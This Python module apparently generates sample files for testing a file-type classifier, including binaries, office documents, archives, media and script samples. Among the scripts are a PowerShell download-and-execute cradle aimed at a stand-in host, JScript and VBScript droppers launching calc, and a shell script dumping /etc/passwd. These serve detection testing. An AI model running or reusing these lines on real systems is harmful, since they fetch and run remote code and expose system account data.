# SPDX-License-Identifier: MIT
"""Files of every type, made by the programs that make such files or, where Debian has none, by hand.

all(dir) yields (name, type, content): the name has its true extension, the type is that of
file_types.conf or "" for none of them.
"""
import email.message
import io
import os
import struct
import subprocess
import zipfile
import zlib

C_SOURCE = "#include <stdio.h>\n\nint main(void)\n{\n\tputs(\"hello\");\n\treturn 0;\n}\n"
JAVA_SOURCE = "package a;\npublic class Hello {\n  public static void main(String[] x) {\n" \
    "    System.out.println(\"hello\");\n  }\n}\n"


def run(dir, *command):
    subprocess.run(command, cwd=dir, check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)


def read(dir, name):
    with open(os.path.join(dir, name), "rb") as f:
        return f.read()


def write(dir, name, body):
    path = os.path.join(dir, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(body if isinstance(body, bytes) else body.encode())


def packed(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, body in members:
            z.writestr(name, body)
    return out.getvalue()


# ------------------------------------------------------------------------ programs

def programs(dir):
    write(dir, "h.c", C_SOURCE)
    run(dir, "gcc", "-o", "h.elf", "h.c")
    run(dir, "gcc", "-c", "-o", "h.o", "h.c")
    run(dir, "gcc", "-shared", "-fPIC", "-o", "h.so", "h.c")
    for name in "h.elf", "h.o", "h.so":
        yield name, "linux", read(dir, name)
    gcc = "x86_64-w64-mingw32-gcc-win32"
    run(dir, gcc, "-o", "h.exe", "h.c")
    run(dir, gcc, "-shared", "-o", "h.dll", "h.c")
    for name in "h.exe", "h.dll":
        yield name, "pe", read(dir, name)
    write(dir, "m.c", "int answer(void)\n{\n\treturn 42;\n}\n")
    objects = []
    for target, cpu in ("x86_64-apple-darwin", 0x01000007), ("arm64-apple-darwin", 0x0100000C):
        run(dir, "clang", "-target", target, "-c", "-o", "m.o", "m.c")
        objects.append((cpu, read(dir, "m.o")))
        yield f"m-{target.split('-')[0]}.o", "MacOSX", objects[-1][1]
    yield "fat", "MacOSX", fat(objects)
    write(dir, "a/Hello.java", JAVA_SOURCE)
    run(dir, "javac", "-d", ".", "a/Hello.java")
    hello = read(dir, "a/Hello.class")
    yield "Hello.class", "jar", hello
    write(dir, "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: a.Hello\n\n")
    run(dir, "zip", "-q", "hello.jar", "META-INF/MANIFEST.MF", "a/Hello.class")
    run(dir, "zip", "-q", "last.jar", "a/Hello.class", "META-INF/MANIFEST.MF")
    jar = read(dir, "hello.jar")
    yield "hello.jar", "jar", jar
    yield "last.jar", "jar", read(dir, "last.jar")
    yield "no-manifest.jar", "jar", packed([("a/Hello.class", hello)])
    yield "behind-text.jar", "jar", b"something in front of it\n" * 20 + jar
    yield "behind-script.jar", "jar", b"#!/bin/sh\nexec java -jar \"$0\"\n" + jar
    yield "behind-program.exe", "pe", read(dir, "h.exe") + jar
    dex = b"dex\n035\0" + bytes(24) + struct.pack("<IIII", 112, 112, 0x12345678, 0) + bytes(64)
    yield "classes.dex", "apk", dex
    yield "app.apk", "apk", packed([("META-INF/MANIFEST.MF", "x"), ("classes.dex", dex),
                                    ("AndroidManifest.xml", b"\3\0\x08\0" + bytes(60))])


def fat(objects):
    """What lipo makes: a header in big endian, then each object at a page of its own."""
    head, body = struct.pack(">II", 0xCAFEBABE, len(objects)), b""
    for cpu, data in objects:
        body += bytes(-len(body) % 4096)
        head += struct.pack(">IIIII", cpu, 3, 4096 + len(body), len(data), 12)
        body += data
    return head.ljust(4096, b"\0") + body


# ------------------------------------------------------------------------ documents

def ole(streams):
    """A compound file of version 3: header, one sector of the table, one or more of directory."""
    entries = [("Root Entry", 5, 1)] + [(name, 2, 0xFFFFFFFF) for name in streams]
    directory = b""
    for name, kind, child in entries:
        text = name.encode("utf-16-le")
        directory += text.ljust(64, b"\0") + struct.pack(
            "<HBBIII", len(text) + 2, kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child) + bytes(36) + \
            struct.pack("<IQ", 0xFFFFFFFE, 0)
    directory += bytes(-len(directory) % 512)
    count = len(directory) // 512
    table = [0xFFFFFFFD] + [i + 2 for i in range(count - 1)] + [0xFFFFFFFE]
    table += [0xFFFFFFFF] * (128 - len(table))
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack(
        "<HHHHH6xIIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0,
        0xFFFFFFFE, 0, 0) + b"\xff" * (108 * 4)
    return head + struct.pack("<128I", *table) + directory


def documents(dir):
    kinds = "[Content_Types].xml", "<?xml version=\"1.0\"?><Types/>"
    for name, part in ("a.docx", "word/document.xml"), ("a.xlsx", "xl/workbook.xml"), \
            ("a.pptx", "ppt/presentation.xml"):
        members = [kinds, ("_rels/.rels", "<r/>"), (part, "<x/>" * 200)]
        yield name, "ms-office", packed(members)
        yield "turned-" + name, "ms-office", packed(members[::-1])
    yield "a.doc", "ms-office", ole(["WordDocument", "1Table"])
    yield "a.xls", "ms-office", ole(["Workbook"])
    yield "a.ppt", "ms-office", ole(["Current User", "x", "y", "PowerPoint Document"])
    yield "a.msi", "ms-office", ole(["other"])
    yield "a.rtf", "ms-office", b"{\\rtf1\\ansi hello}"
    yield "a.pdf", "pdf", pdf()
    yield "late.pdf", "pdf", b"\r\n" * 400 + pdf()
    yield "a.swf", "flash", b"FWS\x06" + struct.pack("<I", 60) + bytes(52)
    yield "b.swf", "flash", b"CWS\x0a" + struct.pack("<I", 1000) + zlib.compress(bytes(992))
    run(dir, "genisoimage", "-quiet", "-hfs", "-V", "x", "-o", "image", "h.c")
    yield "a.dmg", "MacOSX", zlib.compress(read(dir, "image")) + koly()
    toc = zlib.compress(b"<?xml version=\"1.0\"?><xar/>")
    yield "a.pkg", "MacOSX", struct.pack(">4sHHQQI", b"xar!", 28, 1, len(toc), 26, 1) + toc


def koly():
    return struct.pack(">4sIII", b"koly", 4, 512, 1).ljust(512, b"\0")


def pdf():
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0" \
        b"/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def archives(dir):
    write(dir, "t.txt", "text " * 500)
    run(dir, "7z", "a", "t.7z", "t.txt")
    run(dir, "zip", "-q", "t.zip", "t.txt")
    run(dir, "tar", "cf", "t.tar", "t.txt")
    run(dir, "gzip", "-k", "t.txt")
    yield "t.7z", "archive", read(dir, "t.7z")
    yield "t.zip", "", read(dir, "t.zip")
    yield "t.tar", "", read(dir, "t.tar")
    yield "t.txt.gz", "", read(dir, "t.txt.gz")
    yield "4.rar", "archive", b"Rar!\x1a\x07\0\xcf\x90\x73\0\0\x0d\0\0\0\0\0\0\0"
    yield "5.rar", "archive", b"Rar!\x1a\x07\x01\0" + bytes(40)


# ------------------------------------------------------------------------- text

SCRIPTS = {
    "a.sh": "#!/bin/sh\necho hello\n",
    "env.sh": "#!/usr/bin/env -S bash -e\necho hello\n",
    "bare.sh": "set -e\nif [ -f /etc/passwd ]; then\n  for x in $(cat /etc/passwd); do\n"
               "    echo \"$x\"\n  done\nfi\nexport A=1\n",
    "a.pl": "#!/usr/bin/perl\nprint 1;\n",
    "bare.pl": "use strict;\nuse warnings;\nmy $x = shift;\n$x =~ s/a/b/;\nprint $x;\n",
    "a.py": "#!/usr/bin/env python3\nprint(1)\n",
    "a.js": "var a = 1;\nfunction go(x) {\n  if (x === a) { document.write(x); }\n"
            "  return a;\n}\ngo(2);\n",
    "dropper.js": "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n",
    "a.vbs": "Option Explicit\nDim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n",
    "a.ps1": "param([string]$Name)\n$x = Get-ChildItem $env:TEMP\nWrite-Host $x.Count\n"
             "IEX (New-Object Net.WebClient).DownloadString('http://a.example/')\n",
    "a.bat": "@echo off\r\nset A=1\r\nif exist c:\\x del c:\\x\r\ngoto end\r\n:end\r\n",
    "a.hta": "<html><head><HTA:APPLICATION ID=\"x\"></head><body>x</body></html>\n",
    "a.wsf": "<job id=\"x\"><script language=\"JScript\">WScript.Echo(1)</script></job>\n",
    "a.php": "<?php echo 1; ?>\n",
}

OTHERS = {
    "a.txt": "It is a truth universally acknowledged, that a function of the new system is to\n"
             "let us return what was set, and then to make it const. Set it up; for each of us\n"
             "the window is open, and this is the document.\n" * 4,
    "a.html": "<!DOCTYPE html>\n<html><head><script>var a = 1; function f(x) { return x === a; "
              "}\nf(document.title);</script></head></html>\n",
    "a.css": "body { color: red; }\n@media (max-width: 10px) {\n  a { background: url(x.png); }"
             "\n}\n.a::before { content: \"x\"; }\n",
    "a.json": "{\"function\": \"x\", \"return\": [1, 2.5e3, true, null], \"eval(\": {}}\n",
    "a.c": C_SOURCE,
    "b.c": "static const char *name;\n\nint f(int x)\n{\n\tif (x) {\n\t\treturn g(x);\n\t}\n"
           "\treturn 0;\n};\n",
    "a.java": JAVA_SOURCE,
    "a.csv": "a,b,c\n1,2,3\n" * 50,
    "a.xml": "<?xml version=\"1.0\"?>\n<a><b/></a>\n",
    "a.md": "# Title\n\nUse `if` and `for`.\n\n- set this\n- echo that\n",
    "a.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>\n",
}


def texts(dir):
    for name, text in SCRIPTS.items():
        yield name, "script", text.encode()
    for name in "a.ps1", "a.vbs", "a.js", "bare.sh":
        for mark, code in (b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be"), \
                (b"\xef\xbb\xbf", "utf-8"), (b"", "utf-16-le"):
            yield f"{code}-{len(mark)}-{name}", "script", mark + SCRIPTS[name].encode(code)
    for name, text in OTHERS.items():
        yield name, "", text.encode()
    message = email.message.EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@a.example", "b@b.example", "hi"
    message.set_content("hello\n")
    yield "a.eml", "eml", message.as_bytes()
    yield "a.lnk", "script", b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)


def media(dir):
    yield "a.jpg", "", b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + bytes(6000)
    yield "a.png", "", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(6000)
    yield "a.gif", "", b"GIF89a\1\0\1\0\0\0\0;"
    yield "a.mp4", "", b"\0\0\0\x20ftypisom\0\0\2\0isomiso2avc1mp41" + bytes(6000)
    yield "dos.exe", "", b"MZ" + bytes(200)
    yield "noise", "", zlib.compress(bytes(range(256)) * 40)[2:] * 40


def all(dir):
    for part in programs, documents, archives, texts, media:
        yield from part(dir)
